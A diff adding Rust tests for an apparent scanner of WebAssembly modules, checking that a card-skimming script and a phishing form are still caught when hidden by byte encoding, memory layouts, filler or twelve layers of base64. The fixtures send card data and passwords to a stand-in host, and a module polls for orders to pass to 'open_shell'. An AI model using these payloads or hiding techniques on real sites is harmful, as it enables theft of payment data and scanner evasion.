@@ -1,0 +1,174 @@
+//! Pages, scripts and programs that are handed over in ways in which no text is seen: number by number, packed
+//! into numbers, as wide characters at some place of memory, behind much else.
+
+use super::{Class, analysed, at_least, class, not_accused};
+
+const SCRIPT: &str =
+    "let f = document.forms[0]; f.onsubmit = () => { fetch('https://c.example.invalid/' + f.card.value); };";
+const FORM: &str =
+    "<form action='https://c.example.invalid/in'>Password <input type='password' name='p'></form>";
+const PROSE: &str = "The beds are planted, and the water tank was delivered on Monday, says the report.";
+
+/// Bytes as a string of WAT, each changed by its place as `decoded` undoes it.
+fn hidden(bytes: &[u8]) -> String {
+    let code = |(place, byte): (usize, &u8)| byte.wrapping_mul(5).wrapping_add((place as u8).wrapping_mul(3));
+    bytes.iter().enumerate().map(|each| format!("\\{:02x}", code(each))).collect()
+}
+
+/// A module with a function `$letter` that decodes one byte of hidden data at 1024.
+fn carrier(bytes: &[u8], rest: &str) -> String {
+    format!(
+        r#"(module (import "page" "take" (func $take (param i32))) (import "page" "show" (func $show (param i32 i32)))
+          (memory (export "memory") 16) (data (i32.const 1024) "{}")
+          (func $letter (param $at i32) (result i32)
+            (i32.and (i32.const 255) (i32.mul (i32.const 205)
+              (i32.sub (i32.load8_u offset=1024 (local.get $at)) (i32.mul (local.get $at) (i32.const 3))))))
+          {rest})"#,
+        hidden(bytes)
+    )
+    .replace("$LEN", &format!("(i32.const {})", bytes.len()))
+}
+
+/// A loop over all letters.
+fn each(body: &str) -> String {
+    format!(
+        "(local $i i32) (loop $next {body} (local.set $i (i32.add (local.get $i) (i32.const 1)))
+           (br_if $next (i32.lt_u (local.get $i) $LEN)))"
+    )
+}
+
+/// Ways to hand over a text.
+fn ways(text: &str) -> Vec<(&'static str, String)> {
+    let by_place = r#"(func (export "sample") (param i32) (result i32)
+        (if (i32.ge_u (local.get 0) $LEN) (then (return (i32.const 0)))) (call $letter (local.get 0)))"#;
+    let of_object = r#"(func (export "value") (param i32 f64) (result f64)
+        (if (f64.ge (local.get 1) (f64.convert_i32_u $LEN)) (then (return (f64.const -1))))
+        (f64.convert_i32_u (call $letter (i32.trunc_f64_u (local.get 1)))))"#;
+    let one_by_one = r#"(global $n (mut i32) (i32.const 0))
+        (func (export "next") (result i32) (local $at i32)
+          (local.set $at (global.get $n)) (global.set $n (i32.add (local.get $at) (i32.const 1)))
+          (if (result i32) (i32.lt_u (local.get $at) $LEN) (then (call $letter (local.get $at))) (else (i32.const -1))))"#;
+    let three = r#"(func (export "chunk") (param i32) (result i32) (local $at i32)
+        (local.set $at (i32.mul (local.get 0) (i32.const 3)))
+        (if (i32.ge_u (local.get $at) $LEN) (then (return (i32.const 0))))
+        (i32.or (i32.shl (call $letter (local.get $at)) (i32.const 16))
+          (i32.or (i32.shl (call $letter (i32.add (local.get $at) (i32.const 1))) (i32.const 8))
+            (call $letter (i32.add (local.get $at) (i32.const 2))))))"#;
+    let handed = format!("(func (export \"draw\") {})", each("(call $take (call $letter (local.get $i)))"));
+    let store = |width: u32, store: &str| {
+        let at = format!("(i32.add (i32.const 200000) (i32.mul (local.get $i) (i32.const {width})))");
+        let body =
+            each(&format!("({})", store.replace("$AT", &at).replace("$V", "(call $letter (local.get $i))")));
+        format!("(func (export \"prepare\") {body})")
+    };
+    let words = "$AT (f64.convert_i32_u $V)";
+    let ways = [
+        ("by its place", by_place.to_owned()),
+        ("by the place of an object", of_object.to_owned()),
+        ("one by one", one_by_one.to_owned()),
+        ("three at a time", three.to_owned()),
+        ("handed to the host", handed),
+        ("UTF-16 in memory", store(2, "i32.store16 $AT $V")),
+        ("floats in memory", store(8, &format!("f64.store {words}"))),
+        ("words in memory", store(4, "i32.store $AT $V")),
+        ("letters in memory", store(1, "i32.store8 $AT $V")),
+    ];
+    ways.map(|(name, rest)| (name, carrier(text.as_bytes(), &rest))).to_vec()
+}
+
+#[test]
+fn a_page_or_script_is_found_however_it_is_handed_over() {
+    at_least(Class::PotentiallyUnwanted, &ways(FORM));
+    at_least(Class::Undecided, &ways(SCRIPT));
+}
+
+/// Who asks for the letters of a text gets them.
+#[test]
+fn a_text_that_is_handed_over_so_is_a_text() {
+    for (name, text) in ways(PROSE) {
+        let verdict = analysed(&text).verdict;
+        assert_eq!(verdict.class, Class::Clean, "{name}: {:?}", verdict.reasons);
+    }
+}
+
+#[test]
+fn a_program_in_words_is_a_program() {
+    let mut program = b"MZ\x90\0".to_vec();
+    program.resize(64, 0);
+    program[60] = 64;
+    program
+        .extend_from_slice(b"PE\0\0\x64\x86\x02\0and what it does then, which is nothing of use to anybody.");
+    let words = r#"(func (export "word") (param $n i32) (result i32) (local $at i32)
+        (local.set $at (i32.mul (local.get $n) (i32.const 4)))
+        (if (i32.ge_u (local.get $at) $LEN) (then (return (i32.const 0))))
+        (i32.or (i32.or (call $letter (local.get $at))
+            (i32.shl (call $letter (i32.add (local.get $at) (i32.const 1))) (i32.const 8)))
+          (i32.or (i32.shl (call $letter (i32.add (local.get $at) (i32.const 2))) (i32.const 16))
+            (i32.shl (call $letter (i32.add (local.get $at) (i32.const 3))) (i32.const 24)))))"#;
+    let found = analysed(&carrier(&program, words)).verdict;
+    assert!(found.class >= Class::PotentiallyUnwanted, "{:?}", found.reasons);
+}
+
+/// A page is one behind so much text that nobody keeps all of it, and behind many layers.
+#[test]
+fn much_before_a_page_hides_nothing() {
+    let far = r#"(func (export "render") (local $i i32) (local $to i32)
+        (local.set $to (i32.const 100000))
+        (loop $fill (i64.store (local.get $to) (i64.const 0x20656c707061202c))
+          (local.set $to (i32.add (local.get $to) (i32.const 8)))
+          (br_if $fill (i32.lt_u (local.get $to) (i32.const 800000))))
+        (loop $next (i32.store8 (i32.add (local.get $to) (local.get $i)) (call $letter (local.get $i)))
+          (local.set $i (i32.add (local.get $i) (i32.const 1)))
+          (br_if $next (i32.lt_u (local.get $i) $LEN)))
+        (call $show (i32.const 100000) (i32.sub (i32.add (local.get $to) $LEN) (i32.const 100000))))"#;
+    let found = analysed(&carrier(FORM.as_bytes(), far)).verdict;
+    assert!(found.class >= Class::PotentiallyUnwanted, "{:?}", found.reasons);
+    let prose = carrier(PROSE.as_bytes(), far);
+    assert_eq!(class(&prose), Class::Clean);
+    not_accused(&[("much text", prose)]);
+}
+
+#[test]
+fn many_layers_hide_nothing() {
+    let mut text = FORM.to_owned();
+    for _ in 0..12 {
+        text = base64(text.as_bytes());
+    }
+    let handed = format!(
+        "(func (export \"draw\") {} (call $show (i32.const 65536) $LEN))",
+        each("(i32.store8 (i32.add (i32.const 65536) (local.get $i)) (call $letter (local.get $i)))")
+    );
+    let found = analysed(&carrier(text.as_bytes(), &handed)).verdict;
+    assert!(found.class >= Class::PotentiallyUnwanted, "{:?}", found.reasons);
+}
+
+fn base64(bytes: &[u8]) -> String {
+    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let group = |bytes: &[u8]| {
+        let word =
+            bytes.iter().fold(0u32, |all, byte| all << 8 | u32::from(*byte)) << (8 * (3 - bytes.len()));
+        let letter = |place: usize| {
+            let is_there = place <= bytes.len();
+            if is_there { char::from(LETTERS[(word >> (18 - 6 * place) & 63) as usize]) } else { '=' }
+        };
+        (0..4).map(letter).collect::<String>()
+    };
+    bytes.chunks(3).map(group).collect()
+}
+
+/// A function of the host named like one that runs commands waits for orders that nobody gave.
+#[test]
+fn orders_for_a_function_of_the_host_are_orders() {
+    let pulls = |name: &str| {
+        format!(
+            r#"(module (import "desk" "fetch_line" (func $line (param i32 i32) (result i32)))
+              (import "desk" "{name}" (func $does (param i32 i32)))
+              (memory (export "memory") 1)
+              (func (export "poll") (local $n i32)
+                (local.set $n (call $line (i32.const 1024) (i32.const 256)))
+                (if (i32.gt_s (local.get $n) (i32.const 2)) (then (call $does (i32.const 1024) (local.get $n))))))"#
+        )
+    };
+    at_least(Class::Undecided, &[("shell", pulls("open_shell")), ("eval", pulls("host_eval"))]);
+    assert_eq!(class(&pulls("draw_line")), Class::Clean);
+}
